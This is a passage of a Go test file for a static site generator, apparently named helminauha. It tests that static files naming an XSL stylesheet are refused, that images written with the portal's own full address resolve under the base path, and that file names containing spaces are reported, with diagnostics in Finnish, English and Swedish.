			"content/static/kuvat/pakattu.svgz: the file names the XSL stylesheet \"muunnos.xsl\""},
		// A feed styled for reading in a browser, as feeds often are,
		// and a file of a name no host knows, which a browser takes for
		// XML by its <?xml (before 2026-12-07 both were published).
		{"syote.rss", "<?xml version=\"1.0\"?>\n<?xml-stylesheet type=\"text/xsl\" href=\"/tyylit/syote.xsl\"?>\n<rss version=\"2.0\"><channel><title>Uutiset</title></channel></rss>\n",
			"content/static/syote.rss:2:1: tiedosto nimeää XSL-tyylisivun \"/tyylit/syote.xsl\"",
			"content/static/syote.rss:2:1: the file names the XSL stylesheet \"/tyylit/syote.xsl\""},
		{"data/mittaukset", "<?xml-stylesheet href=\"nayta.xsl\"?>\n<mittaukset/>\n",
			"content/static/data/mittaukset:1:1: tiedosto nimeää XSL-tyylisivun \"nayta.xsl\"",
			"content/static/data/mittaukset:1:1: the file names the XSL stylesheet \"nayta.xsl\""},
		// The stylesheet holds nothing that runs.
		{"liitteet/siisti.xsl", "<?xml version=\"1.0\"?>\n<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><table><xsl:for-each select=\"//rivi\"><tr><td><xsl:value-of select=\".\"/></td></tr></xsl:for-each></table></xsl:template></xsl:stylesheet>\n", "", ""},
		// CSS, with its type or by its address, and an instruction in a
		// comment.
		{"data/tyylitelty.xml", "<?xml version=\"1.0\"?>\n<?xml-stylesheet type=\"text/css\" href=\"tiedot.css\"?>\n<?xml-stylesheet href=\"muut.CSS#x\"?>\n<tiedot/>\n", "", ""},
		{"data/kommentti.xml", "<?xml version=\"1.0\"?>\n<!-- <?xml-stylesheet type=\"text/xsl\" href=\"vanha.xsl\"?> -->\n<tiedot/>\n", "", ""},
		{"kuvat/tyyli.svg", "<?xml-stylesheet type=\"text/css\" href=\"kuva.css\"?>\n" + svg + "\n", "", ""},
		// An HTML page is no XML: a browser takes <?…?> for a comment.
		{"liitteet/vanha.html", "<?xml-stylesheet type=\"text/xsl\" href=\"m.xsl\"?>\n<!DOCTYPE html>\n<p>Hei</p>\n", "", ""},
	}
	scriptsRefused(t, cases, "data/tiedot.xml")
	dir := portal(t)
	write(t, filepath.Join(dir, "content", "static", "data", "tiedot.xml"), cases[0].data)
	checkSaysOnce(t, dir, map[string][]string{"sv": {
		"content/static/data/tiedot.xml:2:1: filen anger XSL-formatmallen \"/liitteet/siisti.xsl\" (<?xml-stylesheet?>), med vilken en webbläsare gör om filen till en sida: ",
	}})
}

// TestImageAtThePortalsOwnAddress: an image written with the portal's
// own whole address (https://<baseURL>/kuvat/x.png, copied from the
// browser's address bar) was an error that called it another server's.
// It is the portal's own: its file must exist, as a /kuvat/x.png's must,
// and the page shows it by its path under the base path, also in a
// preview's build with --baseurl and by http or a host in other case.
// One of the same host outside the base path is another site's.
func TestImageAtThePortalsOwnAddress(t *testing.T) {
	t.Parallel()
	var logo bytes.Buffer
	if err := png.Encode(&logo, image.NewGray(image.Rect(0, 0, 2, 2))); err != nil {
		t.Fatal(err)
	}
	dir := portal(t)
	write(t, filepath.Join(dir, "content", "static", "kuvat", "logo.png"), logo.String())
	good := "---\ntitle: Kuvat\n---\n![Logo](https://example.org/portaali/kuvat/logo.png)\n\n![Logo taas](http://EXAMPLE.org/portaali/kuvat/logo.png)\n"
	write(t, filepath.Join(dir, "content", "sivut", "kuvat.md"), good)
	for _, args := range [][]string{{"build"}, {"build", "--baseurl", "https://esikatselu.example.com/pr-7/"}} {
		if code, _, stderr := helminauha(t, dir, args...); code != 0 {
			t.Fatalf("%v: exit status %d\n%s", args, code, stderr)
		}
		html, err := os.ReadFile(filepath.Join(dir, "public", "kuvat", "index.html"))
		if err != nil {
			t.Fatal(err)
		}
		base := "/portaali/"
		if len(args) > 1 {
			base = "/pr-7/"
		}
		if n := strings.Count(string(html), `<img src="`+base+`kuvat/logo.png"`); n != 2 {
			t.Errorf("%v: %d images by the path %skuvat/logo.png, want 2:\n%s", args, n, base, html)
		}
	}
	write(t, filepath.Join(dir, "content", "sivut", "kuvat.md"), good+"\n![Puuttuu](https://example.org/portaali/kuvat/puuttuu.png) ja ![Muu](https://example.org/muu/kuvat/logo.png)\n")
	want := map[string][]string{
		"fi": {
			"content/sivut/kuvat.md:8:1: linkki osoitteeseen https://example.org/portaali/kuvat/puuttuu.png ei toimi: millään sivulla tai tiedostolla ei ole osoitetta /kuvat/puuttuu.png",
			"content/sivut/kuvat.md:8:63: kuva osoitteesta https://example.org/muu/kuvat/logo.png on toisella palvelimella",
		},
		"en": {
			"content/sivut/kuvat.md:8:1: broken link to https://example.org/portaali/kuvat/puuttuu.png: no page or file has the address /kuvat/puuttuu.png",
			"content/sivut/kuvat.md:8:63: the image at https://example.org/muu/kuvat/logo.png is on another server",
		},
		"sv": {
			"content/sivut/kuvat.md:8:1: länken till https://example.org/portaali/kuvat/puuttuu.png fungerar inte: ",
			"content/sivut/kuvat.md:8:63: bilden på adressen https://example.org/muu/kuvat/logo.png finns på en annan server",
		},
	}
	for lang, out := range checkSaysOnce(t, dir, want) {
		if n := lines(out, "content/sivut/kuvat.md:"); n != 2 {
			t.Errorf("check --lang %s: %d problems in kuvat.md, want 2:\n%s", lang, n, out)
		}
	}
}

// staticFile is a file under static/ and the start of what check says of
// it in Finnish and in English ("": nothing).
type staticFile struct{ file, data, fi, en string }

// scriptsRefused writes files under the small portal's static/ and holds
// check, in Finnish and in English, to saying each one's error once and
// nothing of those that run no script, and build to failing without
// publishing refused (a path under public/).
func scriptsRefused(t *testing.T, files []staticFile, refused string) {
	t.Helper()
	dir := portal(t)
	for _, c := range files {
		write(t, filepath.Join(dir, "content", "static", filepath.FromSlash(c.file)), c.data)
	}
	for _, lang := range []string{"fi", "en"} {
		code, out, _ := helminauha(t, dir, "check", "--lang", lang)
		if code != 1 {
			t.Errorf("check --lang %s: exit status %d, want 1\n%s", lang, code, out)
		}
		for _, c := range files {
			want := map[string]string{"fi": c.fi, "en": c.en}[lang]
			if want == "" {
				if strings.Contains(out, "content/static/"+c.file+":") {
					t.Errorf("check --lang %s tells of %s, which runs nothing:\n%s", lang, c.file, out)
				}
				continue
			}
			if lines(out, want) != 1 {
				t.Errorf("check --lang %s does not say, once,\n%s\nit says\n%s", lang, want, out)
			}
		}
	}
	code, out, errOut := helminauha(t, dir, "build")
	if code != 1 {
		t.Errorf("build: exit status %d, want 1\n%s%s", code, out, errOut)
	}
	if _, err := os.Stat(filepath.Join(dir, "public", filepath.FromSlash(refused))); !os.IsNotExist(err) {
		t.Errorf("build published %s (%v)", refused, err)
	}
}

// utf16LE is s in UTF-16, little-endian, after its byte order mark, as
// Windows' Notepad saves "Unicode".
func utf16LE(s string) string {
	b := []byte{0xFF, 0xFE}
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return string(b)
}

// TestSpaceInAFileName: an image or attachment saved with a space in its
// name (as a screenshot is) and written so in its address is no image or
// link to Markdown; the editor was told to write a page's file or a web
// address. The message says to rename the file or write the address in
// angle brackets, which then works.
func TestSpaceInAFileName(t *testing.T) {
	t.Parallel()
	var img bytes.Buffer
	if err := png.Encode(&img, image.NewGray(image.Rect(0, 0, 2, 2))); err != nil {
		t.Fatal(err)
	}
	dir := smallPortal(t, map[string]string{
		"static/kuvat/Kuva 1.png":             img.String(),
		"static/liitteet/Verkosto lomake.pdf": "%PDF-1.4\n%%EOF\n",
		"sivut/tietoa.md":                     "---\ntitle: Tietoa\n---\n![Kaavio](/kuvat/Kuva 1.png)\n\nLataa [lomake](../static/liitteet/Verkosto lomake.pdf).\n\n[Verkoston roolit](Verkoston roolit)\n",
	})
	for _, lang := range diag.Langs {
		code, stdout, stderr := helminauha(t, dir, "check", "--lang", lang.String())
		for _, want := range []string{
			"content/sivut/tietoa.md:4:1: " + diag.SiteSpaceInFileLink.With("/kuvat/Kuva 1.png", "Kuva-1.png", "![Kaavio](</kuvat/Kuva 1.png>)").In(lang),
			"content/sivut/tietoa.md:6:7: " + diag.SiteSpaceInFileLink.With("../static/liitteet/Verkosto lomake.pdf", "Verkosto-lomake.pdf", "[lomake](<../static/liitteet/Verkosto lomake.pdf>)").In(lang),
			"content/sivut/tietoa.md:8:1: " + diag.SiteSpaceInLink.With("Verkoston roolit").In(lang),
		} {
			if code != 1 || !strings.Contains(stdout, want+"\n") {
				t.Errorf("check --lang %s: exit status %d, want 1 and\n%s\nin:\n%s%s", lang, code, want, stdout, stderr)
			}
		}
	}
	write(t, filepath.Join(dir, "content", "sivut", "tietoa.md"), "---\ntitle: Tietoa\n---\n![Kaavio](</kuvat/Kuva 1.png>)\n\nLataa [lomake](<../static/liitteet/Verkosto lomake.pdf>).\n")
	built(t, dir)
	page, err := os.ReadFile(filepath.Join(dir, "public", "tietoa", "index.html"))
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`src="/kuvat/Kuva%201.png"`, `href="/liitteet/Verkosto%20lomake.pdf"`} {
		if !strings.Contains(string(page), want) {
			t.Errorf("the page has no %s:\n%s", want, page)
		}
	}
}
